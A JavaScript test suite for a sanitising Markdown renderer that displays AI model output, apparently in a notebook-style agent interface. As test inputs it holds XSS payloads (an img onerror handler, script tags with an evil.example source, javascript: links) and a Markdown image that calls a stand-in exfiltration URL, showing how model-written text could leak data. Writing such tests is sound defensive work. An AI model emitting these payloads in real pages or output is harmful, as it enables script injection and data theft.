// Markdown from model output: rendered, and never able to run script or restyle the page.
import assert from "node:assert/strict";
import { test } from "node:test";

import { JSDOM } from "jsdom";

import { MAX_MARKDOWN_CHARS, PURIFY_CONFIG, createSanitizer, markdownToHtml, renderMarkdown } from "../src/markdown.js";

const { window } = new JSDOM("<!doctype html><body></body>");
const purifier = createSanitizer(window);

/** @param {string} text */
function rendered(text) {
  const target = window.document.createElement("div");
  renderMarkdown(target, text, purifier);
  return target;
}

test("headings, lists, tables and code blocks become HTML", () => {
  const html = markdownToHtml("# Weather\n\n- sun\n- rain\n\n| day | °C |\n|---|---|\n| Mon | 21 |\n\n```python\nprint(1)\n```\n", purifier);
  assert.match(html, /<h1>Weather<\/h1>/);
  assert.match(html, /<ul>\s*<li>sun<\/li>\s*<li>rain<\/li>\s*<\/ul>/);
  assert.match(html, /<table>[\s\S]*<td>Mon<\/td>[\s\S]*<\/table>/);
  assert.match(html, /<pre><code>print\(1\)\n<\/code><\/pre>/);
});

test("a task list keeps its ticks as characters, with no form element", () => {
  const target = rendered("- [x] Read a.py\n- [ ] Plot the mean\n");
  assert.equal(target.querySelector("input"), null);
  assert.deepEqual([...target.querySelectorAll("li")].map((item) => item.textContent), ["☑ Read a.py", "☐ Plot the mean"]);
});

test("raw HTML in model text is shown as text, not dropped and not parsed", () => {
  const target = rendered('See <img src=x onerror="globalThis.pwned = 1"> here\n\n<div class="jp-Notebook">\n<b>block</b>\n</div>');
  assert.equal(target.querySelector("img, div, b"), null);
  assert.match(target.textContent, /See <img src=x onerror="globalThis.pwned = 1"> here/);
  assert.match(target.textContent, /<div class="jp-Notebook">\s*<b>block<\/b>\s*<\/div>/);
});

test("a Markdown image is a link with its alt text: the page fetches nothing a model wrote", () => {
  const target = rendered("Chart: ![rain **by** day](http://127.0.0.1:9/exfil?secret=x \"rain\") and ![](http://127.0.0.1:9/x3)");
  assert.equal(target.querySelector("img"), null);
  const [named, bare] = target.querySelectorAll("a");
  assert.equal(named.getAttribute("href"), "http://127.0.0.1:9/exfil?secret=x");
  assert.equal(named.textContent, "rain by day");
  assert.equal(named.getAttribute("title"), "rain");
  assert.equal(bare.textContent, "http://127.0.0.1:9/x3");
  const reference = rendered("![logo][l]\n\n[l]: http://127.0.0.1:9/x4");
  assert.equal(reference.querySelector("img"), null);
  assert.equal(reference.querySelector("a")?.getAttribute("href"), "http://127.0.0.1:9/x4");
});

test("no element or attribute that loads a resource survives, whatever HTML reaches the sanitiser", () => {
  const hostile = [
    '<img src="http://h/1" srcset="http://h/2 2x">',
    '<picture><source srcset="http://h/3"></picture>',
    '<video poster="http://h/4" src="http://h/5"></video><audio src="http://h/6"></audio>',
    '<iframe src="http://h/7"></iframe><object data="http://h/8"></object><embed src="http://h/9">',
    '<link rel="stylesheet" href="http://h/10"><meta http-equiv="refresh" content="0;http://h/11"><base href="http://h/12">',
    '<svg><image href="http://h/13"></image><use xlink:href="http://h/14#a"></use></svg>',
    '<table background="http://h/15"><tr><td background="http://h/16">x</td></tr></table>',
    '<input type="image" src="http://h/17"><a href="http://h/ok" ping="http://h/18">link</a>',
  ].join("");
  const target = window.document.createElement("div");
  target.appendChild(purifier.sanitize(hostile, { ...PURIFY_CONFIG, RETURN_DOM_FRAGMENT: true }));
  assert.equal(target.querySelector("img, picture, source, video, audio, iframe, object, embed, link, meta, base, svg, image, use, input"), null);
  for (const node of target.querySelectorAll("*")) {
    for (const name of node.getAttributeNames()) assert.ok(["href", "target", "rel", "title", "align", "start"].includes(name), `${node.tagName} ${name}`);
  }
  assert.equal(target.innerHTML.includes("http://h/1"), false);
  assert.equal(target.querySelector("a")?.getAttribute("href"), "http://h/ok");
});

test("script elements never come through", () => {
  const target = rendered("hello <script>globalThis.pwned = 1</script>\n\n<script src=//evil.example></script>");
  assert.equal(target.querySelector("script"), null);
  assert.match(target.textContent, /hello <script>globalThis.pwned = 1<\/script>/);
});

test("javascript: links lose their href, in Markdown and in HTML", () => {
  const target = rendered("[click](javascript:alert(1)) and <a href=\"JaVaScRiPt:alert(2)\">this</a>");
  for (const link of target.querySelectorAll("a")) {
    assert.equal(link.hasAttribute("href"), false, link.outerHTML);
  }
});

test("links open in a new tab without handing it this page", () => {
  const link = rendered("see [the docs](https://jupyter.org/)").querySelector("a");
  assert.ok(link);
  assert.equal(link.getAttribute("href"), "https://jupyter.org/");
  assert.equal(link.getAttribute("target"), "_blank");
  assert.equal(link.getAttribute("rel"), "noopener noreferrer");
});

test("styles, classes, ids and forms cannot restyle or clobber the page", () => {
  const target = rendered(
    '<style>body{display:none}</style><div class="jp-Notebook" id="main" style="position:fixed">x</div><form><input name="q"></form><iframe src="/"></iframe>'
  );
  assert.equal(target.querySelector("style, div, form, input, iframe"), null);
  assert.match(target.textContent, /<style>body\{display:none\}<\/style><div class="jp-Notebook"/);
  const code = rendered("```python\nprint(1)\n```").querySelector("code");
  assert.ok(code);
  assert.deepEqual(code.getAttributeNames(), []);
});

test("a text too long for Markdown is shown as plain preformatted text", () => {
  const text = `# not a heading here\n${"x".repeat(MAX_MARKDOWN_CHARS)}`;
  const target = rendered(text);
  const pre = target.querySelector("pre.agentruns-plain");
  assert.ok(pre);
  assert.equal(pre.textContent, text);
  assert.equal(target.querySelector("h1"), null);
});

test("half-written Markdown, as it streams, still renders", () => {
  const target = rendered("```js\nlet x = 1;\n| a | b");
  assert.ok(target.querySelector("pre code"));
});
